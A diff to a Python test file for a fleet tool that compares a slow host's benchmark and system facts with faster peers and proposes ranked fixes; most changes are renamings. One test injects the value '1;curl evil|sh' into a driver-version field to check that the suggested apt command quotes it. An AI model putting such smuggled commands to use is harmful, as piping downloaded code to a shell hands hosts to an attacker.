@@ -1,4 +1,4 @@
-"""A slow host beside faster ones of its profile: what differs, ranked, each with evidence and cure."""
+"""A slow host and its faster peers: the differences, ranked, each with evidence and cure."""
 
 import json
 from dataclasses import replace
@@ -14,24 +14,24 @@ from strixfleet.managed.compiled import compile_host
 from strixfleet.managed.facts import ControllerFacts
 from strixfleet.managed.llama_server.server_unit import MANIFEST
 from strixfleet.on_host.questions import Answer, Answers, Ask, Json, Question
-from strixfleet.speed.judge.comparable_facts import options_of, traits_of
-from strixfleet.speed.judge.peers import Sibling, beside, explained_beside
-from strixfleet.speed.smoke import beside_siblings
+from strixfleet.speed.bench_all import compared_with_peers
+from strixfleet.speed.judge.comparable_facts import comparable_facts, options_of
+from strixfleet.speed.judge.peers import Peer, compare_with_fastest, explained_by_peers
 from tests.cases.aspect_cases import ASPECT_CASES, load_case
 
 
 CASE = ASPECT_CASES / "gpu_stack/in_sync.yml"
 SLOW = Verdict("main", "m", "vulkan", "GPU", "tg128", 20.0, 50.0, 40.0, 60.0, Grade.SLOW, "20 of 50")
 FAST = replace(SLOW, measured_tps=50.0, grade=Grade.OK)
-TRAITS = {"gpu_stack:kernel": "6.18.9", "bios:version": "1.05", "gpu_stack:mesa-vulkan-drivers": "25.3"}
+FACTS = {"gpu_stack:kernel": "6.18.9", "bios:version": "1.05", "gpu_stack:mesa-vulkan-drivers": "25.3"}
 
 
-def sibling(name: str, verdict: Verdict = FAST, **traits: str) -> Sibling:
-    renamed = {key.replace("__", ":", 1): value for key, value in traits.items()}
-    return Sibling(
+def peer(name: str, verdict: Verdict = FAST, **facts: str) -> Peer:
+    renamed = {key.replace("__", ":", 1): value for key, value in facts.items()}
+    return Peer(
         name,
         "strix-halo-128",
-        {**TRAITS, **renamed},
+        {**FACTS, **renamed},
         {"main": {"llama_server:ubatch-size": "512"}},
         {"m": ("f" * 64,)},
         frozenset(),
@@ -39,42 +39,42 @@ def sibling(name: str, verdict: Verdict = FAST, **traits: str) -> Sibling:
     )
 
 
-MINE = sibling("strix-1", SLOW)
+MINE = peer("strix-1", SLOW)
 
 
-def causes(mine: Sibling, *others: Sibling) -> list[str]:
-    found = beside(mine, SLOW, others)
-    return [reason.cause for reason in found.reasons] if found else []
+def causes(mine: Peer, *others: Peer) -> list[str]:
+    found = compare_with_fastest(mine, SLOW, others)
+    return [cause.cause for cause in found.causes] if found else []
 
 
 def test_differences_are_ranked_with_evidence_and_cure() -> None:
-    other = sibling("strix-2", kernel__amd_iommu="off", bios__version="1.07", gpu_stack__kernel="6.19.1")
-    found = beside(MINE, SLOW, [other])
+    other = peer("strix-2", kernel__amd_iommu="off", bios__version="1.07", gpu_stack__kernel="6.19.1")
+    found = compare_with_fastest(MINE, SLOW, [other])
     assert found is not None
-    assert [reason.cause for reason in found.reasons] == [
+    assert [cause.cause for cause in found.causes] == [
         "gpu_stack:kernel",
         "bios:version",
         "kernel:amd_iommu",
     ]
-    iommu = found.reasons[-1]
+    iommu = found.causes[-1]
     assert iommu.evidence == "strix-2 has off, this host has nothing; strix-2 reaches 50.00 t/s"
     assert "`amd_iommu: off` in kernel_arguments" in iommu.cure
     assert "strixfleet provision -l strix-1 --reboot ask" in iommu.cure
-    assert "gpu_stack_kernel_floor: 6.19.1" in found.reasons[0].cure
+    assert "gpu_stack_kernel_floor: 6.19.1" in found.causes[0].cure
 
 
 def test_a_cure_is_safe_to_paste_whatever_the_other_host_says() -> None:
-    evil = {**TRAITS, "gpu_stack:mesa-vulkan-drivers": "1;curl evil|sh"}
-    other = replace(sibling("strix-2"), traits=evil)
-    found = beside(MINE, SLOW, [other])
+    evil = {**FACTS, "gpu_stack:mesa-vulkan-drivers": "1;curl evil|sh"}
+    other = replace(peer("strix-2"), facts=evil)
+    found = compare_with_fastest(MINE, SLOW, [other])
     assert found is not None
-    (mesa,) = found.reasons
+    (mesa,) = found.causes
     assert mesa.cure == "on strix-1: apt install mesa-vulkan-drivers='1;curl evil|sh'"
 
 
 def test_options_of_the_server_are_compared_for_the_instance_that_serves_the_file() -> None:
     other = replace(
-        sibling("strix-2"),
+        peer("strix-2"),
         options={"chat": {"llama_server:ubatch-size": "2048"}},
         verdicts=(replace(FAST, instance="chat"),),
     )
@@ -84,47 +84,47 @@ def test_options_of_the_server_are_compared_for_the_instance_that_serves_the_fil
 @pytest.mark.parametrize(
     "other",
     [
-        replace(sibling("strix-2", bios__version="2"), profile="strix-halo-64"),
-        replace(sibling("strix-2", bios__version="2"), models={"m": ("e" * 64,)}),
-        sibling("strix-2", replace(FAST, grade=Grade.UNSTABLE), bios__version="2"),
-        sibling("strix-2", replace(FAST, measured_tps=20.5), bios__version="2"),  # noise
-        sibling("strix-2", replace(FAST, test="pp512"), bios__version="2"),
+        replace(peer("strix-2", bios__version="2"), profile="strix-halo-64"),
+        replace(peer("strix-2", bios__version="2"), models={"m": ("e" * 64,)}),
+        peer("strix-2", replace(FAST, grade=Grade.UNSTABLE), bios__version="2"),
+        peer("strix-2", replace(FAST, measured_tps=20.5), bios__version="2"),  # noise
+        peer("strix-2", replace(FAST, test="pp512"), bios__version="2"),
     ],
 )
-def test_only_clearly_faster_hosts_alike_say_anything(other: Sibling) -> None:
-    assert beside(MINE, SLOW, [other]) is None
+def test_only_clearly_faster_hosts_alike_say_anything(other: Peer) -> None:
+    assert compare_with_fastest(MINE, SLOW, [other]) is None
 
 
 def test_hosts_without_a_profile_are_not_alike() -> None:
     nameless = replace(MINE, profile=None)
-    assert beside(nameless, SLOW, [replace(sibling("strix-2"), profile=None)]) is None
+    assert compare_with_fastest(nameless, SLOW, [replace(peer("strix-2"), profile=None)]) is None
 
 
 def test_what_another_fast_host_has_as_well_is_not_to_blame() -> None:
-    best = sibling("strix-2", bios__version="1.07", gpu_stack__kernel="6.19.1")
-    second = sibling("strix-3", replace(FAST, measured_tps=45.0), bios__version="1.07")
+    best = peer("strix-2", bios__version="1.07", gpu_stack__kernel="6.19.1")
+    second = peer("strix-3", replace(FAST, measured_tps=45.0), bios__version="1.07")
     assert causes(MINE, best) == ["gpu_stack:kernel", "bios:version"]
     assert causes(MINE, second, best) == ["bios:version"]
 
 
 def test_what_the_host_is_told_of_anyway_is_not_said_twice() -> None:
-    other = sibling("strix-2", bios__version="1.07")
-    assert causes(replace(MINE, named=frozenset({"bios:version"})), other) == []
+    other = peer("strix-2", bios__version="1.07")
+    assert causes(replace(MINE, reported=frozenset({"bios:version"})), other) == []
 
 
 def test_what_was_read_on_one_host_only_tells_nothing() -> None:
-    assert causes(MINE, sibling("strix-2", tuning__profile="accelerator-performance")) == []
+    assert causes(MINE, peer("strix-2", tuning__profile="accelerator-performance")) == []
 
 
-def test_verdict_and_rows_name_the_sibling() -> None:
+def test_verdict_and_rows_name_the_peer() -> None:
     report = HostReport("strix-1", reachable=True, verdicts=(SLOW,), extra={"reasons": [{"cause": "hot"}]})
-    told = explained_beside(MINE, report, [sibling("strix-2", bios__version="1.07")])
-    assert "20 of 50; beside strix-2: 1. bios:version (strix-2 has 1.07" in told.verdicts[0].reason
+    told = explained_by_peers(MINE, report, [peer("strix-2", bios__version="1.07")])
+    assert "20 of 50; compared with strix-2: 1. bios:version (strix-2 has 1.07" in told.verdicts[0].reason
     rows = told.extra["reasons"]
     assert isinstance(rows, list)
     assert [row["cause"] for row in rows if isinstance(row, dict)] == ["hot", "bios:version"]
-    same = explained_beside(MINE, report, [sibling("strix-2")])
-    assert same.verdicts[0].reason.endswith("strix-2 reaches 50.00 t/s, and nothing that was read differs")
+    same = explained_by_peers(MINE, report, [peer("strix-2")])
+    assert same.verdicts[0].reason.endswith("strix-2 reaches 50.00 t/s, and no difference was found")
 
 
 def host(name: str) -> Host:
@@ -147,12 +147,12 @@ def seen(name: str, **changed: Json) -> ProbedHost:
     return ProbedHost(state, answers, state.differences(answers), 0.1)
 
 
-def test_traits_are_what_the_probe_read() -> None:
+def test_facts_are_what_the_probe_read() -> None:
     one = seen("h", cmdline="BOOT_IMAGE=/x root=UUID=2 ro amd_iommu=off ttm.pages_limit=1 nosmt")
-    traits = traits_of(one.state, one.answers, one.differences)
-    assert traits["gpu_stack:mesa-vulkan-drivers"] == "25.0.7-2+deb13u1"
-    assert traits["gpu_stack:kernel"] == one.state.facts.kernel_release
-    words = {key: value for key, value in traits.items() if key.startswith("kernel:")}
+    facts = comparable_facts(one.state, one.answers, one.differences)
+    assert facts["gpu_stack:mesa-vulkan-drivers"] == "25.0.7-2+deb13u1"
+    assert facts["gpu_stack:kernel"] == one.state.facts.kernel_release
+    words = {key: value for key, value in facts.items() if key.startswith("kernel:")}
     words.pop("kernel:gtt_total", None)
     words.pop("kernel:carve_out", None)
     assert words == {"kernel:amd_iommu": "off", "kernel:nosmt": "set"}
@@ -175,18 +175,18 @@ def test_hosts_of_one_run_are_held_against_each_other() -> None:
         "a": HostReport("a", reachable=True, verdicts=(SLOW,)),
         "b": HostReport("b", reachable=True, verdicts=(FAST,)),
     }
-    told = beside_siblings(reports, hosts)
+    told = compared_with_peers(reports, hosts)
     assert told["b"] == reports["b"]
     reason = told["a"].verdicts[0].reason
-    assert "beside b: 1. gpu_stack:mesa-vulkan-drivers (b has 25.3.1-1, this host has 25.0.7" in reason
+    assert "compared with b: 1. gpu_stack:mesa-vulkan-drivers (b has 25.3.1-1, this host has 25.0.7" in reason
     assert "2. kernel:amd_iommu (b has off" in reason
 
 
-def test_no_host_is_its_own_sibling() -> None:
+def test_no_host_is_its_own_peer() -> None:
     reports = {
         "a": HostReport("a", reachable=True, verdicts=(SLOW, replace(FAST, instance="second"))),
         "b": HostReport("b", reachable=True, verdicts=(SLOW,)),
     }
-    told = beside_siblings(reports, {"a": seen("a"), "b": seen("b")})
+    told = compared_with_peers(reports, {"a": seen("a"), "b": seen("b")})
     assert told["a"].verdicts == reports["a"].verdicts
     assert "a reaches 50.00 t/s" in told["b"].verdicts[0].reason
